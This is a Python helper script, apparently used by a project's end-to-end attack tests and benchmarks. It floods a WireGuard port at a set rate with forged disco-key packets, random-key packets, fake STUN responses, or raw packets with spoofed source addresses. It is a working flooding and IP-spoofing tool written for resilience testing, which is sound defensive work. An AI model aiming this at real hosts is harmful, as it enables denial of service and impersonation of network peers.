"""Floods a WireGuard port, run in an attacker's namespace: `python -S flooder.py DST PORT KIND RATE SECONDS KEYHEX`.

Standard library only (starts in milliseconds). Kinds:
  member-key          disco magic + KEYHEX (a member's public disco key) + garbage
  unknown-key         disco magic + a random key + garbage
  stun                STUN binding responses: the magic cookie, random transaction ids
  member-key-spoofed  member-key, each packet from a random address of DST's /24 and a random port
Prints how many packets it sent. Shared by tests/e2e_attacks and bench/wgport_flood.py.
"""

import os
import random
import socket
import struct
import sys
import time

KINDS = ("member-key", "unknown-key", "stun", "member-key-spoofed")
DISCO_MAGIC = b"MC\xf0\x9f\x94\x8d"
POOL = 512


def payload(kind: str, key: bytes) -> bytes:
    if kind.startswith("member-key"):
        return DISCO_MAGIC + key + os.urandom(12 + 16 + random.randrange(0, 64))
    if kind == "unknown-key":
        return DISCO_MAGIC + os.urandom(32 + 12 + 16 + random.randrange(0, 64))
    mapped = struct.pack("!HHBBH", 0x20, 8, 0, 1, 0) + os.urandom(4)  # XOR-MAPPED-ADDRESS
    return struct.pack("!HHI", 0x0101, len(mapped), 0x2112A442) + os.urandom(12) + mapped


def main() -> None:
    dst, port, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    rate, seconds, key = int(sys.argv[4]), float(sys.argv[5]), bytes.fromhex(sys.argv[6])
    if kind not in KINDS:
        raise SystemExit(f"unknown kind {kind}")
    pool = [payload(kind, key) for _ in range(POOL)]
    if kind.endswith("-spoofed"):
        net = dst.rsplit(".", 1)[0]
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

        def send(i: int, data: bytes) -> None:
            src = f"{net}.{random.randrange(100, 250)}"
            udp = struct.pack("!HHHH", random.randrange(1024, 65535), port, 8 + len(data), 0) + data
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i & 0xFFFF, 0, 64, 17, 0,
                             socket.inet_aton(src), socket.inet_aton(dst))
            sock.sendto(ip + udp, (dst, 0))
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

        def send(i: int, data: bytes) -> None:
            sock.sendto(data, (dst, port))
    start = time.monotonic()
    sent = 0
    while (elapsed := time.monotonic() - start) < seconds:
        due = int(elapsed * rate) + 1
        while sent < due:
            try:
                send(sent, pool[sent % POOL])
            except OSError:
                pass
            sent += 1
        time.sleep(0.001)
    print(sent)


if __name__ == "__main__":
    main()
